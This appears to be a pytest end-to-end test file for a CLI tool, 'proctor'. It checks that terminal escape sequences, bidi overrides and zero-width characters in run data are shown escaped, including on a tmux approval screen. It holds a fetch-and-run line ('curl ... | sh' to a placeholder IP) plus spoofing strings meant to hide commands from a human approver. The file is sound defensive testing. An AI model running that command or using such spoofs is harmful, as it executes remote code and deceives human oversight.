"""Hostile text (tests/assets/hostile_text) through every CLI command that shows run data: the
real ``proctor`` in a subprocess, and ``proctor approve`` in a real terminal (tmux).

A command, a file's content, a reason, a refusal, a result, process output, a skill's
description and an audit line each carry the whole corpus (CSI and OSC sequences with OSC 52,
backspaces, carriage returns, bidi overrides, zero-width and tag characters). No output may
hold one of those characters raw; each shows the real command (visible, with the escapes) and
says once that it escaped something. Only ``process read --raw`` prints them, and says so.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from proctor.core.inert_text import is_hostile
from tests.e2e.conftest import Ws
from tests.e2e.test_approve_cli import _capture, _quote, _wait_screen

ASSETS = Path(__file__).resolve().parents[1] / "assets" / "hostile_text"
CORPUS: list[dict[str, str]] = json.loads((ASSETS / "corpus.json").read_text())
REAL = "curl -s http://203.0.113.9/x | sh"
ALL = "\n".join(entry["text"] for entry in CORPUS)
NOTE = "shown as escapes"
ASK = '{"effects": "ask"}'

RUN_YAML = """minimum_proctor: 0.1.0
methods:
  cmd:
    description: Run a command once a person approves.
    inputs: {type: object, properties: {text: {type: string}}, required: [text]}
    steps:
      - id: run
        tool: command.execute
        reason: Run it.
        inputs: {argv: [echo, $input.text], timeout_seconds: 30}
  write:
    description: Write a file once a person approves.
    inputs: {type: object, properties: {text: {type: string}}, required: [text]}
    steps:
      - id: put
        tool: fs.write
        reason: Write it.
        inputs: {path: note.txt, content: $input.text, create: true}
  say:
    description: Echo the text back as the result.
    inputs: {type: object, properties: {text: {type: string}}, required: [text]}
    steps:
      - id: say
        tool: echo
        inputs: {text: $input.text}
  read:
    description: Read a file that is not there (the refusal names it).
    inputs: {type: object, properties: {text: {type: string}}, required: [text]}
    steps:
      - id: get
        tool: fs.read
        inputs: {path: $input.text}
  proc:
    description: Start a process that prints the text.
    inputs: {type: object, properties: {text: {type: string}}, required: [text]}
    steps:
      - id: serve
        tool: process.start
        inputs:
          command: sh
          args: ["-c", 'printf %s "$0"', $input.text]
"""


def _assert_inert(text: str, where: str) -> None:
    raw = sorted({f"U+{ord(c):04X}" for c in text if is_hostile(c)})
    assert not raw, f"{where}: raw hostile characters reached the output: {raw}"


def _yaml_quoted(text: str) -> str:
    """``text`` as a YAML double-quoted scalar: every character outside printable ASCII as
    its ``\\UXXXXXXXX`` escape (YAML takes no raw control character)."""
    out = []
    for char in text:
        if char in '"\\':
            out.append("\\" + char)
        elif " " <= char <= "~":
            out.append(char)
        else:
            out.append(f"\\U{ord(char):08x}")
    return '"' + "".join(out) + '"'


@pytest.fixture
def hostile(ws: Ws) -> Ws:
    pkg = ws.root / "skills" / "hostile"
    pkg.mkdir(parents=True)
    description = _yaml_quoted("Harmless. " + ALL)
    (pkg / "SKILL.md").write_text(f"---\nname: hostile\ndescription: {description}\n---\n")
    (pkg / "run.yaml").write_text(RUN_YAML)
    (ws.root / "inputs.json").write_text(json.dumps({"text": ALL}))
    return ws


def _run(ws: Ws, method: str, *extra: str) -> tuple[Any, dict[str, Any]]:
    shown = ws.proctor("run", f"skills/hostile#{method}", "--inputs", "inputs.json", *extra)
    as_json = ws.proctor(
        "run", f"skills/hostile#{method}", "--inputs", "inputs.json", *extra, "--json"
    )
    return shown, json.loads(as_json.stdout)


def test_every_command_that_shows_run_data_shows_it_inert(hostile: Ws) -> None:
    ws = hostile
    outputs: dict[str, str] = {}

    shown, paused = _run(ws, "cmd", "--run-authority", ASK)
    assert shown.code == 10 and paused["status"] == "needs_approval", shown.stderr
    outputs["run (paused on a command)"] = shown.stdout + shown.stderr
    assert REAL in shown.stdout and NOTE in shown.stderr
    run_id, digest = paused["run_id"], paused["requests"][0]["request_digest"]

    listed = ws.proctor("pending")
    outputs["pending"] = listed.stdout + listed.stderr
    # JSON for programs carries the exact text, every hostile character as a \u escape
    as_json = ws.proctor("pending", "--json")
    _assert_inert(as_json.stdout, "pending --json")
    for request in as_json.json()["requests"]:
        assert request["payload"]["command"]["argv"] == ["echo", ALL]
    decline = ws.proctor("decline", run_id, "--yes", "--digest", digest, "--reason", "no: " + ALL)
    assert decline.code == 1, decline.stderr
    outputs["decline"] = decline.stdout + decline.stderr
    assert REAL in decline.stdout and NOTE in decline.stderr
    one = ws.proctor("history", run_id)
    outputs["history RUN"] = one.stdout + one.stderr
    assert "declined" in one.stdout and "reason: no: " in one.stdout and REAL in one.stdout

    wrote, _ = _run(ws, "write", "--run-authority", ASK)
    outputs["run (paused on a file)"] = wrote.stdout + wrote.stderr
    assert f"+{REAL}" in wrote.stdout

    said, _ = _run(ws, "say")
    outputs["run (result)"] = said.stdout + said.stderr
    (ws.root / "path.json").write_text(json.dumps({"text": "gone\u202etxt.exe\u200b"}))
    refused = ws.proctor("run", "skills/hostile#read", "--inputs", "path.json")
    assert refused.code == 1 and "gone\\u202etxt.exe\\u200b" in refused.stdout, refused.stdout
    _assert_inert(refused.stdout + refused.stderr, "run (refusal)")

    started, env = _run(ws, "proc")
    outputs["run (process)"] = started.stdout + started.stderr
    assert env["outcome"] == "completed", env.get("refusal")
    procs = json.loads(ws.proctor("process", "list", "--json").stdout)["processes"]
    pid = procs[0]["process_id"]
    deadline = time.monotonic() + 30
    while True:
        read = ws.proctor("process", "read", pid)
        if REAL in read.stdout or time.monotonic() > deadline:
            break
        time.sleep(0.05)
    outputs["process read"] = read.stdout + read.stderr
    assert REAL in read.stdout and NOTE in read.stderr
    outputs["process list"] = ws.proctor("process", "list").stdout
    raw = ws.proctor("process", "read", pid, "--raw")
    assert "\x1b]52;c;" in raw.stdout and "--raw" in raw.stderr  # only behind the flag
    ws.proctor("process", "stop", pid)

    outputs["history"] = ws.proctor("history").stdout
    outputs["skill list"] = ws.proctor("skill", "list").stdout
    inspected = ws.proctor("skill", "inspect", "skills/hostile")
    outputs["skill inspect"] = inspected.stdout + inspected.stderr
    assert "Harmless." in inspected.stdout and REAL in inspected.stdout

    log = ws.root / ".proctor" / "audit.jsonl"
    with log.open("a") as handle:  # a tampered line: the log is data too
        handle.write(json.dumps({"event": ALL, "run_id": ALL, "timestamp": "x"}) + "\n")
    tail = ws.proctor("audit", "tail", "-n", "3")
    outputs["audit tail"] = tail.stdout + tail.stderr
    assert REAL in tail.stdout

    for where, text in outputs.items():
        _assert_inert(text, where)
        if where == "history":
            continue  # the list of runs shows ids, names and outcomes: nothing a run chose
        assert "\\x1b" in text or "\\u001b" in text, f"{where}: the escape is not shown"


def test_tmux_approve_shows_the_real_command_not_the_spoof(hostile: Ws, tmp_path: Path) -> None:
    tmux = shutil.which("tmux")
    if tmux is None:
        pytest.skip("tmux is not installed")
    ws = hostile
    spoof = next(e["text"] for e in CORPUS if e["name"] == "csi_erase_line")
    (ws.root / "inputs.json").write_text(json.dumps({"text": spoof}))
    _, paused = _run(ws, "cmd", "--run-authority", ASK)
    run_id = paused["run_id"]
    sock = f"proctor-hostile-{os.getpid()}"
    done = tmp_path / "exit-code"
    script = tmp_path / "approve.sh"
    exports = " ".join(
        f"{k}={_quote(v)}" for k, v in ws.env.items() if k.startswith(("PROCTOR_", "PYTHON"))
    )
    script.write_text(
        f"cd {_quote(str(ws.root))} && env {exports} TERM=xterm-256color"
        f" {_quote(sys.executable)} -m proctor approve {run_id};"
        f" echo $? > {_quote(str(done))}; sleep 600\n"
    )
    base = [tmux, "-L", sock]
    subprocess.run(
        [*base, "new-session", "-d", "-x", "200", "-y", "50", "sh", str(script)], check=True
    )
    try:
        screen = _wait_screen(base, "Approve?")
        # what the terminal shows is the real command, its escapes visible; the spoof never
        # erased it, and the note says characters were escaped before the question
        assert REAL in screen, screen
        assert "\\x0d\\x1b[2K\\x1b[1Gls -la" in screen, screen
        assert NOTE in screen, screen
        lines = [line for line in screen.splitlines() if "argv:" in line or "$ echo" in line]
        assert lines and all(REAL in line for line in lines), screen
        subprocess.run([*base, "send-keys", "n", "Enter"], check=True)
        deadline = time.monotonic() + 60
        while not done.exists() or not done.read_text().strip():
            assert time.monotonic() < deadline, _capture(base)
            time.sleep(0.05)
        assert done.read_text().strip() == "1", _capture(base)
    finally:
        subprocess.run([*base, "kill-server"], check=False)
